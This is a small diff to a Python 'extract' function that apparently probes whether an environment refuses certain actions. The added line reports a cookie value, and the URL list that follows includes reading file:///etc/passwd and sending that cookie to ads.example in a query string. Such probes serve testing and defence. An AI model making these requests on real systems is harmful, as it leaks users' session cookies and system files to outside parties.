@@ -29,6 +29,7 @@ def extract(talk: socket.socket) -> None:
             said = f"refused ({type(error).__name__})"
         parent.say(GalleryRemark(words=f"{way.__name__}: {said}"))
     secret = task.cookies[0].value if task.cookies else ""
+    parent.say(GalleryRemark(words=f"holds {secret}"))
     for url, method in (
         ("file:///etc/passwd", "GET"),
         (f"https://ads.example/?{secret}", "GET"),
